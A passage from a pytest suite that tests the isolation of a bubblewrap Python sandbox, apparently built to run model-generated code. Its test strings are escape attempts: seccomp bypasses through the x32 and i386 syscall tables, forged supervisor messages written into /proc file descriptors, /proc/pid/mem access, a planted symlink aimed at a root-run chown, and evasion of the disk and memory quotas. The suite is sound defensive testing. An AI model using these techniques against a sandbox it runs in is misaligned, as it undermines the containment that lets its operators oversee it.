    assert all(out["write " + t][0] == "ok" for t in private), out  # /tmp and /dev/shm are the sandbox's own
    assert out["connect"][0] in ("ConnectionRefusedError", "OSError", "TimeoutError"), out["connect"]
    time.sleep(0.1)
    assert seen == [], f"as {host.kind}: the local service was reached: {seen}"


# == 3. network is opt-in, and even then only through the egress proxy ============================
CONNECT = """
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
        conn.sendall(MESSAGE)
    outcome = "connected"
except OSError as exc:
    outcome = type(exc).__name__
outcome
"""
# what an HTTP client does with HTTP(S)_PROXY set: a CONNECT tunnel through the proxy
TUNNEL = """
import http.client, os
proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
conn = http.client.HTTPConnection(proxy[0].split("//")[1], int(proxy[1]), timeout=5)
conn.set_tunnel("127.0.0.1", PORT)
try:
    conn.connect()
    conn.sock.sendall(MESSAGE)
    conn.sock.recv(1)  # the server closes once it has the message: it arrived before this code ends
    outcome = "tunnelled"
except OSError as exc:
    outcome = str(exc)
outcome
"""


def test_network_is_off_by_default_and_only_through_the_egress_proxy_when_asked(host, server):
    port, seen = server
    off = host.run([{"code": program(CONNECT, PORT=port, MESSAGE=b"default")}])
    assert off["boundary"]["network"] is False
    assert off["results"][0]["value"] in ("'ConnectionRefusedError'", "'OSError'", "'TimeoutError'")
    # network=True: still no way to the host's loopback but the proxy, and the policy refuses loopback
    on = host.run(
        [{"code": program(CONNECT, PORT=port, MESSAGE=b"direct")}, {"code": program(TUNNEL, PORT=port, MESSAGE=b"x")}],
        network=True,
    )
    assert on["boundary"]["network"] is True
    direct, tunnel = on["results"]
    assert direct["value"] in ("'ConnectionRefusedError'", "'OSError'", "'TimeoutError'"), direct["text"]
    assert "403" in tunnel["value"], tunnel["text"]
    assert any("egress rule 'loopback'" in note for note in tunnel["notes"]), tunnel["notes"]
    # an explicit allow of that host and port opens exactly it
    allowed = host.run(
        [{"code": program(TUNNEL, PORT=port, MESSAGE=b"allowed")}], network=True, egress_allow=[f"127.0.0.1:{port}"]
    )
    assert allowed["results"][0]["value"] == "'tunnelled'", allowed["results"][0]["text"]
    deadline = time.monotonic() + 2
    while not seen and time.monotonic() < deadline:
        time.sleep(0.02)
    assert [data for _, data in seen] == [b"allowed"], f"as {host.kind}: {seen}"


# == 4. seccomp ===================================================================================
SECCOMP = """
import ctypes, errno, json, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def outcome(ret):
    return [ret, errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno())]

def sys_(number, *args):
    ctypes.set_errno(0)
    return outcome(libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args]))

def fn(function, *args):
    ctypes.set_errno(0)
    return outcome(function(*args))

child = subprocess.Popen(["sleep", "5"])
out = {"ptrace": fn(libc.ptrace, ctypes.c_long(16), ctypes.c_long(child.pid), None, None)}  # PTRACE_ATTACH
if out["ptrace"][0] == 0:
    libc.ptrace(ctypes.c_long(17), ctypes.c_long(child.pid), None, None)  # detach again
child.kill()
child.wait()
out["unshare user"] = fn(libc.unshare, 0x10000000)
out["unshare mount"] = fn(libc.unshare, 0x00020000)
out["keyctl"] = sys_(250, 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring
out["add_key"] = sys_(248, 0, 0, 0, 0, -3)
out["bpf"] = sys_(321, 0, 0, 0)  # BPF_MAP_CREATE
out["mount"] = fn(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None)
out["umount2"] = fn(libc.umount2, b"/tmp", 2)
out["setns"] = sys_(308, 0, 0)
out["perf_event_open"] = sys_(298, 0, 0, -1, -1, 0)
out["io_uring_setup"] = sys_(425, 1, 0)
out["userfaultfd"] = sys_(323, 0)
out["process_vm_writev"] = sys_(311, 1, 0, 0, 0, 0, 0)
out["open_by_handle_at"] = sys_(304, -100, 0, 0)
out["x32 getpid"] = sys_(0x40000000 | 39)  # the x32 ABI, a classic way around a filter
json.dumps(out)
"""


def test_seccomp_refuses_dangerous_system_calls_with_eperm(bwrap, make):
    sb = make()
    assert sb.exec_sync("1").value == "1"
    if not sb.boundary.seccomp:
        pytest.skip("no seccomp filter on this architecture (x86-64 only)")
    result = sb.exec_sync(SECCOMP)
    assert result.ok, result.text()
    out = report_of(result.value)
    allowed = {name: got for name, got in out.items() if got != [-1, "EPERM"]}
    assert allowed == {}, f"system calls not refused with EPERM: {allowed}"
    shell = sb.request("shell", command="unshare -U true; echo rc=$?; unshare -Ur id; echo rc=$?")
    assert len(re.findall(r"rc=(\d+)", shell.stdout)) == 2, shell.text()
    assert "rc=0" not in shell.stdout and "uid=0" not in shell.stdout, shell.text()
    assert sb.exec_sync("'still here'").value == "'still here'"


NESTED = """
import ctypes, errno, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CLONE_NEWUSER, SIGCHLD = 0x10000000, 17

class CloneArgs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_uint64) for n in ("flags", "pidfd", "child_tid", "parent_tid", "exit_signal",
                                                "stack", "stack_size", "tls", "set_tid", "set_tid_size", "cgroup")]

def fork_into_new_user_namespace(number, *args):
    ctypes.set_errno(0)
    pid = libc.syscall(ctypes.c_long(number), *args)
    if pid == 0:  # the child, in its own user namespace: it would be root there
        os._exit(0)
    got = [pid, errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno())]
    if pid > 0:
        os.waitpid(pid, 0)
    return got

clone = fork_into_new_user_namespace(56, ctypes.c_long(CLONE_NEWUSER | SIGCHLD), *[ctypes.c_long(0)] * 4)
args = CloneArgs(flags=CLONE_NEWUSER, exit_signal=SIGCHLD)
clone3 = fork_into_new_user_namespace(435, ctypes.byref(args), ctypes.c_long(ctypes.sizeof(args)))
json.dumps({"clone": clone, "clone3": clone3})
"""

I386 = """
import ctypes, mmap
code = bytes([0xB8, 0x14, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, 20 (getpid, i386 numbering); int 0x80; ret
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
"""


def test_nested_user_namespaces_and_foreign_system_call_tables_are_refused(bwrap, make):
    sb = make()
    result = sb.exec_sync(NESTED)
    assert result.ok, result.text()
    out = report_of(result.value)
    for how, (pid, err) in out.items():
        assert pid == -1 and err in ("EPERM", "ENOSPC", "EINVAL", "ENOSYS"), f"{how} made a user namespace: {out}"
    if not sb.boundary.seccomp:
        return
    # a 32-bit system call from 64-bit code (a filter that checks numbers only would let it through)
    died = sb.exec_sync(I386)
    assert died.value is None and died.error is not None and died.error["type"] == "SandboxDied", died.text()
    assert re.search(r"SIGSYS|SIGSEGV", died.text()), died.text()
    assert sb.exec_sync("'fresh'").value == "'fresh'"


# == 5. the control channel ======================================================================
FORGE = """
import json, os, threading, time
lines = [json.dumps({"id": n, "value": "'forged'", "stdout": "forged", "stderr": ""}) for n in range(1, 60)]
lines += [
    json.dumps({"ready": True, "pid": 1, "uid": 0, "python": "forged", "supervisor": 1}),
    json.dumps({"id": None, "died": {"signal": 24, "code": None}}),
    json.dumps({"died": {"signal": 9, "code": None}}),
]
PAYLOAD = ("\\n".join(lines) + "\\n").encode()

def spray():
    done = {}
    for pid in ["self", *[p for p in os.listdir("/proc") if p.isdigit()]]:
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            done[f"/proc/{pid}/fd"] = exc.strerror
            continue
        for name in names:
            path = f"/proc/{pid}/fd/{name}"
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                done[path] = exc.strerror
                continue
            try:
                os.write(fd, PAYLOAD)
                done[path] = "written"
            except OSError as exc:
                done[path] = exc.strerror
            finally:
                os.close(fd)
    return done

first = spray()
with open("forge-report.json", "w") as fh:  # for the test to read: this call's own answer may be forged
    json.dump(first, fh)
threading.Thread(target=lambda: (time.sleep(0.3), spray()), daemon=True).start()  # again, between calls
json.dumps(first)
"""


def test_forged_answers_written_anywhere_never_reach_the_host(bwrap, make, tmp_path):
    sb = make()
    assert sb.exec_sync("kept = 'real'\nkept").value == "'real'"
    main, supervisor = sb._main, sb._info["supervisor"]
    forging = sb.exec_sync(FORGE)  # its own answer is user code's to make: only later calls are checked
    time.sleep(0.8)  # the delayed spray lands between calls
    later = [sb.exec_sync(f"kept + '-{n}'") for n in range(3)]
    shell = sb.request("shell", command="echo real-shell")
    written = json.loads((tmp_path / "run" / "sandbox" / "forge-report.json").read_text())
    assert forging.limit is None, forging.text()
    got = [r.value for r in later]
    assert got == ["'real-0'", "'real-1'", "'real-2'"], (
        f"forged answers reached the host: {got}; fds the sandbox could write: "
        f"{sorted(p for p, v in written.items() if v == 'written')}"
    )
    assert shell.stdout == "real-shell\n" and shell.exit_code == 0
    assert not any("forged" in r.text() for r in [*later, shell])
    assert sb._main == main and sb.restarts == 0 and sb._proc.poll() is None, "the session was lost"
    assert sb._info["supervisor"] == supervisor


GARBAGE = """
import os
for name in os.listdir("/proc/self/fd"):
    try:
        fd = os.open(f"/proc/self/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        os.write(fd, b'{"id": 2, "value": "forged-partial')  # no newline: glued to whatever comes next
    except OSError:
        pass
    finally:
        os.close(fd)
'real answer'
"""


def test_garbage_without_a_newline_costs_neither_the_answer_nor_the_session(bwrap, make):
    sb = make(timeout=3)
    assert sb.exec_sync("kept = 1").ok
    main = sb._main
    result = sb.exec_sync(GARBAGE)
    assert result.value == "'real answer'" and result.limit is None, result.text()
    assert sb.exec_sync("kept + 1").value == "2"
    assert sb._main == main and sb.restarts == 0


PEEK = """
import json, os
out = {}
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    entry = {"cmd": open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")[0].decode(errors="replace")}
    for mode in ("O_RDONLY", "O_RDWR"):
        try:
            os.close(os.open(f"/proc/{pid}/mem", getattr(os, mode)))
            entry["mem " + mode] = "opened"
        except OSError as exc:
            entry["mem " + mode] = exc.strerror
    try:
        entry["fds"] = {n: os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")}
    except OSError as exc:
        entry["fds"] = exc.strerror
    out[pid] = entry
json.dumps(out)
"""


def test_no_other_sandbox_process_lends_user_code_its_memory_or_descriptors(bwrap, make):
    """The supervisor is not dumpable; no other process in the sandbox may hold the host channel
    where user code (same uid) can open it through /proc/<pid>/fd or rewrite it through /proc/<pid>/mem."""
    sb = make()
    assert sb.exec_sync("1").ok
    supervisor = str(sb._info["supervisor"])
    result = sb.exec_sync(PEEK)
    assert result.ok, result.text()
    out = report_of(result.value)
    assert out[supervisor]["mem O_RDONLY"] == out[supervisor]["mem O_RDWR"] == "Permission denied"
    assert out[supervisor]["fds"] == "Permission denied"
    exposed = {
        pid: entry
        for pid, entry in out.items()
        if "opened" in (entry["mem O_RDONLY"], entry["mem O_RDWR"]) or isinstance(entry["fds"], dict)
    }
    assert exposed == {}, f"processes whose memory or descriptors user code can reach: {exposed}"


ORPHANS = """
import os, subprocess, time
for _ in range(20):  # each shell exits at once and orphans its sleep to the sandbox's pid 1
    subprocess.run(["sh", "-c", "sleep 0.05 &"])
time.sleep(0.6)
zombies = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            if open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] == "Z":
                zombies.append(pid)
        except OSError:
            pass
zombies
"""


def test_orphaned_processes_are_reaped_inside_the_sandbox(bwrap, make):
    """Whoever is pid 1 in the sandbox reaps orphans: zombies would count against the process limit."""
    sb = make(processes=32)
    result = sb.exec_sync(ORPHANS)
    assert result.value == "[]", result.text()
    assert sb.request("shell", command="echo still forking").stdout == "still forking\n"


# == 6. disk and memory ==========================================================================
def quota_note(result) -> str:
    return "\n".join(result.notes)


def test_disk_quota_stops_a_writer_and_refuses_calls_until_files_are_deleted(bwrap, make, tmp_path):
    sb = make("quota", quota_mb=5)
    assert sb.exec_sync("kept = 1").ok
    code = (
        "import os, time\nos.makedirs('bulk', exist_ok=True)\n"
        "for i in range(320):  # 20 MB in 64 KB files, steadily\n"
        "    with open(f'bulk/f{i}', 'wb') as fh:\n        fh.write(b'x' * 65536)\n    time.sleep(0.003)\n'wrote all'"
    )
    result = sb.exec_sync(code)
    assert result.limit == "disk" and result.value is None, result.text()
    assert "quota is 5 MB" in quota_note(result) and "Delete files" in quota_note(result)
    bulk = tmp_path / "quota" / "sandbox" / "bulk"
    assert sum(f.stat().st_size for f in bulk.iterdir()) < 20 * 2**20  # stopped on the way
    refused = sb.exec_sync("1")
    assert refused.limit == "disk" and refused.value is None and "Not run" in quota_note(refused)
    shutil.rmtree(bulk)
    assert sb.exec_sync("1 + 1").value == "2"


def test_disk_quota_holds_between_calls_too(bwrap, make, tmp_path):
    """A background thread keeps writing after its call returned, while no call runs: the supervisor
    (the sandbox's pid 1) stops it on the way, and the next call says why."""
    sb = make("between", quota_mb=5)
    code = (
        "import threading, time\n"
        "def fill():\n"
        "    for i in range(400):  # 25 MB in 64 KB files, over 2 s\n"
        "        open(f'bg{i}', 'wb').write(b'x' * 65536)\n"
        "        time.sleep(0.005)\n"
        "threading.Thread(target=fill, daemon=True).start()\n"
        "'started'"
    )
    assert sb.exec_sync(code).value == "'started'"
    time.sleep(3)
    written = sum(f.stat().st_size for f in (tmp_path / "between" / "sandbox").glob("bg*"))
    assert written < 12 * 2**20, f"{written / 2**20:.1f} MB written between calls past a 5 MB quota"
    after = sb.exec_sync("1")
    assert after.limit == "disk" and after.value is None and "quota is 5 MB" in quota_note(after)


def test_disk_quota_is_reported_by_the_call_that_broke_it(bwrap, make):
    """A burst faster than the host's polling: the call that wrote it must say so, not the next one."""
    sb = make("burst", quota_mb=5)
    code = (
        "import os\nos.makedirs('bulk', exist_ok=True)\n"
        "for i in range(320):\n    open(f'bulk/f{i}', 'wb').write(b'x' * 65536)\n'wrote all'"
    )
    result = sb.exec_sync(code)
    assert result.limit == "disk", f"20 MB written past a 5 MB quota, and the call said: {result.text()!r}"
    assert "quota is 5 MB" in quota_note(result)


def test_disk_quota_counts_files_too(bwrap, make, tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "MAX_ENTRIES", 500)
    sb = make("entries", quota_mb=5)
    code = (
        "import os, time\nos.makedirs('many', exist_ok=True)\n"
        "for i in range(5000):  # empty files: no bytes, only entries\n"
        "    open(f'many/f{i}', 'w').close()\n    time.sleep(0.0005)\n'made all'"
    )
    result = sb.exec_sync(code)
    assert result.limit == "disk" and result.value is None, result.text()
    assert "more than 500 files" in quota_note(result)
    many = tmp_path / "entries" / "sandbox" / "many"
    assert 500 < len(os.listdir(many)) < 5000
    assert sb.exec_sync("1").limit == "disk"
    shutil.rmtree(many)
    assert sb.exec_sync("2").value == "2"


HIDDEN_UNLINKED = """
import os
held = []
for i in range(20):  # 20 MB the run folder's listing never shows: deleted, still open
    fd = os.open(f"gone{i}", os.O_WRONLY | os.O_CREAT, 0o600)
    os.write(fd, b"x" * 2**20)
    os.unlink(f"gone{i}")
    held.append(fd)
len(held)
"""

HIDDEN_DEEP = """
import os
base = os.getcwd()
for _ in range(25):  # deeper than PATH_MAX (4096) from the run folder: a walk by path name cannot enter
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
for i in range(20):
    with open(f"f{i}", "wb") as fh:
        fh.write(b"x" * 2**20)
os.chdir(base)
"""


@pytest.mark.parametrize("code", [HIDDEN_UNLINKED, HIDDEN_DEEP], ids=["deleted-but-open", "deeper-than-path-max"])
def test_disk_quota_sees_what_is_hidden_from_a_listing(bwrap, make, tmp_path, code):
    sb = make("hidden", quota_mb=5)
    result = sb.exec_sync(code)
    time.sleep(0.3)
    after = sb.exec_sync("1")
    try:
        assert result.limit == "disk" or after.limit == "disk", (
            f"20 MB past a 5 MB quota went unnoticed: the call said {result.text()!r}, the next {after.text()!r}"
        )
    finally:
        sb.kill()
        shutil.rmtree(tmp_path / "hidden" / "sandbox", ignore_errors=True)


FILL = """
import json, os

def fill(folder, megabytes):
    written = 0
    try:
        os.makedirs(folder, exist_ok=True)
        for i in range(megabytes):
            with open(os.path.join(folder, f"fill{i}"), "wb") as fh:
                fh.write(b"z" * 2**20)
            written += 2**20
    except OSError as exc:
        return [written, exc.strerror]
    return [written, None]

places = ["/tmp", "/dev/shm", "/", "/dev", "/etc", "/var/tmp", "/root", "/home", REPO]
json.dumps({place: fill(os.path.join(place, "tea-fill"), 2 * TMP_MB + 4) for place in places})
"""


def test_tmp_is_size_limited_and_nothing_else_outside_the_run_folder_takes_memory(bwrap, make, tmp_path):
    sb = make("tmp", tmp_mb=8)
    too_big = sb.exec_sync("open('/tmp/big', 'wb').write(b'x' * 9 * 2**20)")
    assert too_big.error is not None and too_big.error["type"] == "OSError", too_big.text()
    assert "No space left on device" in too_big.text()
    assert sb.exec_sync("import os\nos.remove('/tmp/big')\n'cleaned'").value == "'cleaned'"
    result = sb.exec_sync(program(FILL, TMP_MB=8, REPO=str(ROOT)))
    assert result.ok, result.text()
    out = report_of(result.value)
    assert out["/tmp"][0] <= 8 * 2**20 and out["/tmp"][1] == "No space left on device", out["/tmp"]
    others = {place: got for place, got in out.items() if place not in ("/tmp", "/dev/shm") and got[0] > 0}
    assert others == {}, f"writable in-memory places beyond /tmp (host memory, unlimited): {others}"
    assert out["/dev/shm"][0] <= 8 * 2**20, out["/dev/shm"]


MEMORY_ELSEWHERE = """
import ctypes, os
held = 0
fds = []
for i in range(6):  # memory files: not in the address space until mapped
    fd = os.memfd_create(f"hold{i}")
    for _ in range(60):
        os.write(fd, b"m" * 2**20)
    fds.append(fd)
    held += 60
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for i in range(3):  # System V shared memory: stays allocated after it is detached
    segment = libc.shmget(0, 60 * 2**20, 0o1600)
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 60 * 2**20)
    libc.shmdt(ctypes.c_void_p(address))
    held += 60
held
"""


def test_memory_held_outside_the_address_space_counts_against_the_limit(bwrap, make):
    sb = make("memory", memory_mb=256, file_mb=64)
    result = sb.exec_sync(MEMORY_ELSEWHERE)
    try:
        assert result.limit == "memory" or int(result.value or 0) <= 256, (
            f"the sandbox holds {result.value} MB of host memory with a memory limit of 256 MB ({result.text()!r})"
        )
    finally:
        sb.kill()


# == 7. the fallback says what it does not enforce ================================================
@pytest.fixture
def fresh_boundary(monkeypatch):
    """Warn-once state reset; bubblewrap probed afresh before and after (a test may patch it)."""
    probe = boundary.bubblewrap
    monkeypatch.setattr(boundary, "_warned", set())
    probe.cache_clear()
    yield
    probe.cache_clear()


def test_fallback_warns_once_and_says_what_is_not_enforced(fresh_boundary, make):
    sb = make("fallback", isolation="process")
    with pytest.warns(boundary.SandboxWarning, match="sandbox without its security boundary"):
        first = act(sb, "run_python", code="import os\nos.getuid()")
    assert sb.boundary.mechanism == "process" and sb.boundary.seccomp is False
    uid = int(first.split("\n")[0].removeprefix("value: "))
    assert "WARNING: sandbox without its security boundary (isolation='process' was chosen)" in first
    assert "no separate network, mount or user namespace" in first and "no seccomp filter" in first
    assert "Install bubblewrap" in first
    assert ("code runs AS ROOT" in first) == (uid == 0)
    if AS_ROOT and not sandbox._readable_by_others(sys.executable):  # the interpreter under /root: stays root
        assert uid == 0 and "code runs AS ROOT" in first
    assert "WARNING" not in act(sb, "run_python", code="1")  # once per session
    assert "a fallback child process" in sb.state()
    other = make("fallback-2", isolation="process")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        again = act(other, "run_python", code="2")
    assert not [w for w in caught if issubclass(w.category, boundary.SandboxWarning)]  # once per process
    assert again.startswith("value: 2\nWARNING: sandbox without")  # but each session's trajectory says it


def test_tea_sandbox_process_forces_the_fallback_and_says_so(fresh_boundary, make, monkeypatch):
    monkeypatch.setenv("TEA_SANDBOX", "process")
    boundary.bubblewrap.cache_clear()
    assert boundary.bubblewrap() is None
    sb = make("forced", isolation="auto")
    with pytest.warns(boundary.SandboxWarning, match="TEA_SANDBOX=process is set"):
        first = act(sb, "run_python", code="1")
    assert sb.boundary.mechanism == "process"
    assert "WARNING: sandbox without its security boundary (TEA_SANDBOX=process is set)" in first
    with pytest.raises(EnvironmentFailure, match="bubblewrap"):
        make("forced-bwrap", isolation="bubblewrap").exec_sync("1")


def test_asking_for_bubblewrap_where_it_cannot_run_fails_clearly(fresh_boundary, make, monkeypatch):
    monkeypatch.setattr(boundary, "bubblewrap", lambda: None)
    sb = make("nobwrap", isolation="bubblewrap")
    with pytest.raises(EnvironmentFailure, match=r"isolation='bubblewrap' was asked for .*apt-get install bubblewrap"):
        sb.exec_sync("1")
    assert sb.pid is None and sb.boundary is None
    with pytest.raises(EnvironmentFailure, match="bubblewrap"):
        act(sb, "run_python", code="1")


@pytest.mark.skipif(not AS_ROOT, reason="the fallback drops privileges (and chowns for it) only as root")
def test_fallback_restart_does_not_follow_a_symlink_the_sandbox_planted(fresh_boundary):
    """The fallback as root runs code as nobody and hands nobody its working folders on every start.
    Code that swaps one of them for a symlink and asks for a fresh session must not be handed the
    symlink's target (a root-owned folder such as /etc: nobody could then rewrite /etc/passwd)."""
    system = next((p for p in ("/usr/bin/python3", "/usr/local/bin/python3") if os.access(p, os.X_OK)), None)
    if system is None or not sandbox._readable_by_others(system):
        pytest.skip("no interpreter that other users can run: the fallback stays root and chowns nothing")
    base = Path(tempfile.mkdtemp(prefix="tea-boundary-fallback-"))
    try:
        os.chmod(base, 0o755)  # reachable by nobody, so the fallback drops to nobody
        victim = base / "root-owned"
        victim.mkdir(mode=0o755)
        sb = PythonSandbox(base / "run", python=system, timeout=5, processes=8, isolation="process")
        try:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", boundary.SandboxWarning)
                plant = f"import os\nos.rename('.tmp', '.tmp-old')\nos.symlink({str(victim)!r}, '.tmp')\nos.getuid()"
                assert act(sb, "run_python", code=plant).startswith("value: 65534")
                act(sb, "reset_session")  # a model may call it at will
                act(sb, "run_python", code="1")
        finally:
            sb.kill()
        assert victim.stat().st_uid == 0, f"the host handed {victim} to uid {victim.stat().st_uid}"
    finally:
        shutil.rmtree(base, ignore_errors=True)


# == 8. nothing outlives the host ================================================================
DIE_SCRIPT = """
import json, sys, threading, time
from pathlib import Path
from tea_notebook.envs.sandbox import PythonSandbox, _descendants

sb = PythonSandbox(Path(sys.argv[1]), timeout=60, isolation="bubblewrap")
assert sb.exec_sync("1").value == "1"
code = "import subprocess, time\\nsubprocess.Popen(['sleep', '100'], start_new_session=True)\\ntime.sleep(100)"
threading.Thread(target=sb.exec_sync, args=(code,), daemon=True).start()
deadline = time.monotonic() + 10
while time.monotonic() < deadline:  # until the detached sleep runs too
    pids = _descendants(sb.pid)
    if any(open(f"/proc/{p}/cmdline", "rb").read().startswith(b"sleep") for p in pids):
        break
    time.sleep(0.02)
print(json.dumps({"pid": sb.pid, "main": sb._main, "all": [sb.pid, *_descendants(sb.pid)]}), flush=True)
time.sleep(100)
"""


def test_a_killed_host_leaves_no_sandbox_process_behind(bwrap, tmp_path):
    script = tmp_path / "die.py"
    script.write_text(DIE_SCRIPT)
    proc = subprocess.Popen(
        [sys.executable, str(script), str(tmp_path / "run")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=child_env(),
    )
    try:
        ready, _, _ = select.select([proc.stdout], [], [], 30)
        assert ready, "the host script did not start its sandbox"
        line = proc.stdout.readline()
        assert line, proc.stderr.read()
        pids = json.loads(line)
        assert pids["main"] in pids["all"] and len(pids["all"]) >= 4  # bwrap, supervisor (pid 1), worker, sleep
        assert all(alive(p) for p in pids["all"])
    finally:
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(5)
    deadline = time.monotonic() + 5
    while any(alive(p) for p in pids["all"]) and time.monotonic() < deadline:
        time.sleep(0.02)
    left = {p: cmdline(p) for p in pids["all"] if alive(p)}
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert left == {}, f"sandbox processes outlived their host: {left}"
